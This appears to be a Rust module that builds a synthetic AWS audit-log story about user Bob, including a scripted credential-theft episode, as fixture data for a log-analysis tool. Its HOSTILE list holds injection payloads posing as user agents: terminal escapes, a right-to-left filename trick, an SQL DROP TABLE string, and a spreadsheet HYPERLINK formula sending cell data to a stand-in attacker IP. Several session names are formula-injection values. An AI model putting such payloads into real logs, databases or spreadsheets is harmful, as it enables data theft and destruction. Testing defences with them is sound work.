//! The story inside the archive: what user Bob did in the spring of 2019, and what was done in his
//! name. It is the same for every seed and size, so that examples can speak of it.

use std::sync::Arc;

use super::actor::Actor;
use super::call::named;
use super::clock::{HOUR, MINUTE, at};
use super::event::{Action, Answer, Assumption, Event};
use super::noise::delivery;
use super::random::Random;

const DEVOPS: &str = "arn:aws:iam::111111111111:role/devops";
const DEVOPS_OF_PRODUCTION: &str = "arn:aws:iam::222222222222:role/devops";
const BACKUP: &str = "arn:aws:iam::111111111111:role/backup-operator";
const BREAK_GLASS: &str = "arn:aws:iam::111111111111:role/break-glass";

const LAPTOP: &str = "aws-cli/2.9.19 Python/3.9.11 Linux/5.15.0 exe/x86_64.ubuntu.22 prompt/off";

/// Programs that name themselves so as to harm whoever reads the log: terminal escapes, text that
/// runs backwards, SQL, spreadsheet formulas.
const HOSTILE: &[&str] = &[
    "curl/7.88 \u{1b}[2J\u{1b}[31mcleared\u{1b}[0m",
    "aws-cli/2.9.19 \u{202e}gnp.exe\u{202c}",
    "'; DROP TABLE bob_access_keys; -- \"",
    "=HYPERLINK(\"http://203.0.113.66/?\"&A1,\"details\")",
];

/// The story's events.
pub fn events() -> Vec<Event> {
    let mut story = Story { random: Random::of("bob"), events: Vec::new() };
    story.ordinary_days();
    story.roles_that_are_not_devops();
    story.across_accounts();
    story.at_the_edges();
    story.stolen();
    story.delivered_oddly();
    story.events
}

struct Story {
    random: Random,
    events: Vec<Event>,
}

impl Story {
    /// Keys of the role, used within hours, in several regions, also after midnight.
    fn ordinary_days(&mut self) {
        let bob = bob();
        let key = self.assume(&bob, "2019-02-27T14:05:11Z", DEVOPS, "us-east-1");
        self.visit(&key, "2019-02-27T14:10:00Z", "us-east-1", &["DescribeInstances", "ListBuckets"]);

        self.visit(&bob, "2019-03-04T09:05:00Z", "us-east-1", &["GetCallerIdentity", "GetUser"]);
        let key = self.assume(&bob, "2019-03-04T09:12:44Z", DEVOPS, "us-east-1");
        let calls = ["ListBuckets", "DescribeInstances", "DescribeInstances", "DescribeSecurityGroups", "GetBucketAcl"];
        self.visit(&key, "2019-03-04T09:20:10Z", "us-east-1", &calls);
        let calls = ["DescribeInstances", "DescribeInstances", "DescribeVolumes", "DescribeSecurityGroups"];
        self.visit(&key, "2019-03-04T11:02:00Z", "eu-west-1", &calls);

        let key = self.assume(&bob, "2019-03-12T22:31:07Z", DEVOPS, "eu-west-1");
        self.visit(&key, "2019-03-12T23:41:30Z", "eu-west-1", &["DescribeInstances", "DescribeInstances"]);
        self.visit(&key, "2019-03-13T00:20:05Z", "us-west-2", &["DescribeInstances", "DescribeSecurityGroups"]);
        self.visit(&key, "2019-03-13T09:50:00Z", "eu-west-1", &["ListBuckets", "DescribeVolumes", "GetBucketAcl"]);

        self.refused(&bob, "2019-03-19T08:02:50Z", DEVOPS, Answer::Denied);
        self.refused(&bob, "2019-03-19T08:03:21Z", DEVOPS, Answer::TooLong);
        let key = self.assume(&bob, "2019-03-19T08:05:00Z", DEVOPS, "us-east-1");
        let calls = ["ListBuckets", "GetBucketAcl", "GetBucketAcl", "DescribeSecurityGroups", "ListBuckets"];
        self.visit(&key, "2019-03-19T08:20:00Z", "us-east-1", &calls);

        // This key was never used.
        self.assume(&bob, "2019-04-02T16:44:59Z", DEVOPS, "us-east-1");
    }

    /// Roles whose names only resemble the one that is looked for.
    fn roles_that_are_not_devops(&mut self) {
        let bob = bob();
        let days = ["2019-03-07", "2019-03-21", "2019-04-11", "2019-05-09"];
        let roles = ["role/readonly", "role/devops-admin", "role/ops/devops", "role/billing-export"];
        for (day, role) in days.into_iter().zip(roles) {
            let role = format!("arn:aws:iam::111111111111:{role}");
            let key = self.assume(&bob, &format!("{day}T10:00:00Z"), &role, "us-east-1");
            self.visit(&key, &format!("{day}T10:12:00Z"), "us-east-1", &["DescribeInstances", "ListBuckets"]);
        }
    }

    /// A role of another account, from which a role of this one is assumed.
    fn across_accounts(&mut self) {
        let production = self.assume(&bob(), "2019-03-29T10:15:00Z", DEVOPS_OF_PRODUCTION, "us-east-1");
        self.visit(&production, "2019-03-29T10:40:00Z", "eu-west-1", &["GetBucketAcl", "GetBucketAcl"]);
        let backup = self.assume(&production, "2019-03-29T10:55:12Z", BACKUP, "eu-west-1");
        self.visit(&backup, "2019-03-29T11:00:00Z", "eu-west-1", &["DescribeVolumes", "CreateSnapshot"]);
        self.visit(&backup, "2019-03-29T11:20:00Z", "us-east-1", &["DescribeVolumes", "CreateSnapshot"]);
    }

    /// Calls just inside and just outside the twelve hours of a key, and keys issued just before
    /// midnight and just before the end of May.
    fn at_the_edges(&mut self) {
        let bob = bob();
        let key = self.assume(&bob, "2019-04-09T13:30:00Z", DEVOPS, "us-east-1");
        self.visit(&key, "2019-04-09T14:00:00Z", "us-west-2", &["DescribeInstances", "ListBuckets"]);
        self.visit(&key, "2019-04-10T01:30:00Z", "us-west-2", &["DescribeVolumes"]);
        self.call(&key, at("2019-04-10T01:30:01Z"), "us-west-2", "DescribeInstances", Some("ExpiredToken"));
        self.call(&key, at("2019-04-10T05:00:00Z"), "eu-central-1", "ListBuckets", Some("ExpiredToken"));

        let key = self.assume(&bob, "2019-04-17T23:58:30Z", DEVOPS, "us-east-1");
        self.deliver(at("2019-04-18T00:05:00Z"));
        let calls = ["DescribeInstances", "DescribeSecurityGroups", "DescribeVolumes"];
        self.visit(&key, "2019-04-18T00:01:40Z", "ap-southeast-1", &calls);

        let key = self.assume(&bob, "2019-05-31T23:30:00Z", DEVOPS, "us-east-1");
        self.deliver(at("2019-06-01T00:05:00Z"));
        self.visit(&key, "2019-06-01T00:15:00Z", "us-east-1", &["DescribeInstances", "ListBuckets"]);
        self.visit(&key, "2019-06-01T11:29:00Z", "eu-west-1", &["ListBuckets"]);

        let key = self.assume(&bob, "2019-06-02T08:00:00Z", DEVOPS, "us-east-1");
        self.visit(&key, "2019-06-02T08:10:00Z", "us-east-1", &["DescribeInstances"]);
    }

    /// Somebody else works with Bob's credentials, from regions that nobody uses, through one role
    /// after another.
    fn stolen(&mut self) {
        let thief = |agent: &str| Arc::new(Actor::user("bob", "203.0.113.66", agent));
        let key = self.assume_as(&thief(HOSTILE[0]), "2019-04-25T06:20:10Z", DEVOPS, "ap-southeast-1", "=2+5+cmd");
        let from = |agent: &str| {
            let identity = key.identity.clone();
            Arc::new(Actor { identity, address: key.address.clone(), agent: agent.to_owned() })
        };
        self.visit(&from(HOSTILE[0]), "2019-04-25T06:24:00Z", "us-east-1", &["ListBuckets"]);
        self.visit(&from(HOSTILE[1]), "2019-04-25T06:40:00Z", "ap-southeast-1", &["GetSecretValue", "GetSecretValue"]);
        let modify = "ModifySnapshotAttribute";
        let calls = ["DescribeVolumes", "CreateSnapshot", modify, modify, modify];
        self.visit(&from(HOSTILE[2]), "2019-04-25T07:15:00Z", "sa-east-1", &calls);
        let calls = ["DescribeSecurityGroups", "GetSecretValue", "GetSecretValue"];
        self.visit(&from(HOSTILE[3]), "2019-04-25T08:02:00Z", "sa-east-1", &calls);

        let glass = self.assume_as(&from(HOSTILE[2]), "2019-04-25T09:00:00Z", BREAK_GLASS, "ap-southeast-1", "@SUM");
        let calls = ["CreateUser", "CreateAccessKey", "AttachUserPolicy", "StopLogging"];
        self.visit(&glass, "2019-04-25T09:04:00Z", "us-east-1", &calls);
        self.visit(&glass, "2019-04-25T09:30:00Z", "sa-east-1", &["AuthorizeSecurityGroupIngress"]);
        self.visit(&glass, "2019-04-25T10:05:00Z", "us-east-1", &["AuthorizeSecurityGroupIngress"]);
        let production = self.assume_as(&glass, "2019-04-25T18:30:00Z", DEVOPS_OF_PRODUCTION, "ap-southeast-1", "-2+3");
        self.visit(&production, "2019-04-26T02:10:00Z", "sa-east-1", &["GetBucketAcl", "PutBucketPolicy"]);
    }

    /// Records delivered twice, in the folder of another region, and many hours late.
    fn delivered_oddly(&mut self) {
        let bob = bob();
        let key = self.assume(&bob, "2019-05-06T20:00:00Z", DEVOPS, "us-east-1");
        self.deliver_again();
        self.visit(&key, "2019-05-06T20:11:00Z", "us-east-1", &["ListBuckets", "DescribeSecurityGroups"]);
        self.call(&key, at("2019-05-06T20:30:00Z"), "eu-central-1", "DescribeInstances", None);
        self.deliver_again();

        let key = self.assume(&bob, "2019-05-14T02:00:00Z", DEVOPS, "us-east-1");
        self.last().folder = "eu-west-1";
        self.visit(&key, "2019-05-14T02:20:00Z", "us-west-2", &["DescribeInstances", "GetBucketAcl"]);
        self.call(&key, at("2019-05-14T13:10:00Z"), "us-west-2", "RunInstances", None);
        self.deliver(at("2019-05-15T00:25:00Z"));
    }

    /// `who` assumes a role under the name `bob`; the session that works with the key.
    fn assume(&mut self, who: &Arc<Actor>, time: &str, role: &str, region: &'static str) -> Arc<Actor> {
        self.assume_as(who, time, role, region, "bob")
    }

    fn assume_as(
        &mut self,
        who: &Arc<Actor>,
        time: &str,
        role: &str,
        region: &'static str,
        session: &str,
    ) -> Arc<Actor> {
        let key = Random::of(time).identifier("ASIA");
        let begun = Actor::session(role, session, &key, at(time), &who.address, &who.agent);
        self.ask(who, time, role, region, session, Answer::Key(key));
        Arc::new(begun)
    }

    fn refused(&mut self, who: &Arc<Actor>, time: &str, role: &str, answer: Answer) {
        self.ask(who, time, role, "us-east-1", "bob", answer);
    }

    fn ask(&mut self, who: &Arc<Actor>, time: &str, role: &str, region: &'static str, session: &str, answer: Answer) {
        let seconds = if matches!(answer, Answer::TooLong) { 24 * HOUR } else { 12 * HOUR };
        let assumption = Assumption { role: role.to_owned(), session: session.to_owned(), seconds, answer };
        self.push(who, at(time), region, Action::AssumeRole(Arc::new(assumption)));
    }

    /// `who` makes these calls, one every other minute, from `time` on.
    fn visit(&mut self, who: &Arc<Actor>, time: &str, region: &'static str, calls: &[&str]) {
        let mut time = at(time);
        for name in calls {
            self.call(who, time, region, name, None);
            time += self.random.within(40..3 * MINUTE);
        }
    }

    fn call(&mut self, who: &Arc<Actor>, time: i64, region: &'static str, name: &str, error: Option<&'static str>) {
        let call = named(name);
        let region = if call.is_global() { "us-east-1" } else { region };
        self.push(who, time, region, Action::Call(call, error));
    }

    fn push(&mut self, who: &Arc<Actor>, time: i64, region: &'static str, action: Action) {
        let delivered = delivery(time, &mut self.random);
        let actor = Arc::clone(who);
        let seed = self.random.number();
        self.events.push(Event { time, delivered, region, folder: region, actor, action, seed });
    }

    fn last(&mut self) -> &mut Event {
        self.events.last_mut().expect("a story changes an event after telling it")
    }

    /// The last event was delivered then.
    fn deliver(&mut self, time: i64) {
        self.last().delivered = time;
    }

    /// The last event was delivered once more, some minutes later.
    fn deliver_again(&mut self) {
        let mut again = self.last().clone();
        again.delivered += 10 * MINUTE;
        self.events.push(again);
    }
}

fn bob() -> Arc<Actor> {
    Arc::new(Actor::user("bob", "198.51.100.77", LAPTOP))
}
